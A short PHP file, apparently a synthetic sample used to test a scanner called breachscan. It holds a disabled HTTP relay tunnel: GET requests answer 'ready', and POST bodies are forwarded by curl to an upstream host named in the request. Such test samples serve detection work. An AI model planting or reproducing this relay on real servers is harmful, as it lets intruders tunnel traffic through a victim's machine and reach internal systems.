<?php
// synthetic test sample for breachscan: HTTP relay tunnel - a GET gets a fixed word (the
// client checks the file is there), a POST body is forwarded to the server the request
// names and the reply printed. Disabled.
return;
if ($_SERVER['REQUEST_METHOD'] == 'GET') {
    die('ready');
}
$body = file_get_contents('php://input');
$target = $_POST['upstream'] . $_POST['path'];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, $target);
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
curl_exec($ch);
